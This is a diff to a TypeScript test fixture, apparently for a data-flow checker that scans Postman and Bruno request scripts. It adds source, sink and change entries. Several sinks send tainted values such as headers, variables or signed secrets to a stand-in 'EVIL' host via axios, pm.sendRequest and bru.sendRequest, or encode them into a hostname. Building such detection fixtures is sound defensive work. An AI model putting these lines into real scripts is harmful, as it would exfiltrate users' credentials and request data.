@@ -39,6 +39,12 @@ const sources: readonly ScriptLine[] = [
     'bru.interpolate("{{v1}} {{process.env.E}}")',
     'req.getHeader("X-H")',
     'req.getUrl()',
+    'JSON.stringify(req.getHeaders())',
+    'JSON.stringify(pm.request)',
+    'JSON.stringify(pm.request.headers.toObject())',
+    'bru.getCollectionVar("c0")',
+    'environment.v0',
+    'pm.globals.replaceIn("{{v0}}")',
   ),
   ...named({
     'tool.jwt.sign': 'tool.jwt.sign({ x: tool.getVar("v0") ?? "" }, { alg: "HS256", key: "{{$secret.K}}" })',
@@ -93,9 +99,17 @@ const sinks: readonly ScriptLine[] = [
     'tests[x] = false',
     'test(x, () => expect(x).to.equal("no"))',
     'pm.execution.setNextRequest(x)',
+    'bru.runner.setNextRequest(x)',
+    'pm.visualizer.set(x, { x })',
+    'bru.setCollectionVar("c1", { x })',
+    'environment.v1 = x',
+    'console.error(new Error(x), pm.request)',
   ),
   ...named({
     'tool.jwt.sign, set': 'tool.setVar("v1", tool.jwt.sign({ x }, { alg: "HS256", key: "{{$secret.K}}" }))',
+    'axios.get, the host': 'await axios.get("http://" + encodeURIComponent(x) + ".invalid/")',
+    'pm.sendRequest, the name of a header': 'await pm.sendRequest({ url: "EVIL/", header: { [x]: "1" } })',
+    'bru.sendRequest, the method': 'await bru.sendRequest({ url: "EVIL/", method: x })',
     'axios.post': 'await axios.post("EVIL/?s=" + encodeURIComponent(x), x, { headers: { "X-H": x } })',
     'axios.get': 'await axios.get("EVIL/", { params: { s: x } })',
     'axios.create': 'await axios.create({ baseURL: "EVIL" }).put("/" + encodeURIComponent(x), { x })',
@@ -123,6 +137,8 @@ const changes: readonly ScriptLine[] = [
     'req.setUrl(req.getUrl() + "&q=" + encodeURIComponent(x))',
   ),
   { kind: 'tool.skip(x)', code: 'tool.skip(x)', ends: true },
+  { kind: 'throw x', code: 'throw new Error(x)', ends: true },
+  { kind: 'a name of a header', code: 'pm.request.headers.add({ key: x.replace(/[^\\w]/g, "-"), value: "1" })' },
 ];
 
 /** Sends of an earlier request, as expressions. */
